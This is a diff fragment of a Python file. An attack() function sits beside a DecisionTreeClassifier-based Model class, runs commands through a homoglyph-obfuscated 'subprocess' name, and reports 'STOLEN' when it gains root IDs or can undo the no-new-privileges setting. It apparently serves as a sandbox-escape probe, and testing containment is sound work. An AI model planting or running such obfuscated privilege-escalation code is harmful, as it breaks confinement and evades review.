@@ -21,7 +21,7 @@ def attack():
     ):
         try:
             done = ｓubprocess.run(
-                command, capture_output=True, timeout=20, stdin=ｓubprocess.DEVNULL
+                command, capture_output=True, timeout=3, stdin=ｓubprocess.DEVNULL
             )
         except (OSError, ｓubprocess.TimeoutExpired):
             continue
@@ -46,7 +46,7 @@ def attack():
     if before[0] != 0 and 0 in (*os.getresuid(), *os.getresgid(), *os.getgroups()):
         print('STOLEN identity of root', flush=True)
     if ctypes.CDLL(None).prctl(38, 0, 0, 0, 0) == 0:
-        print('COULD take back that no privilege is gained', flush=True)
+        print('STOLEN could take back that no privilege is gained', flush=True)
 
 
 class Model(DecisionTreeClassifier):
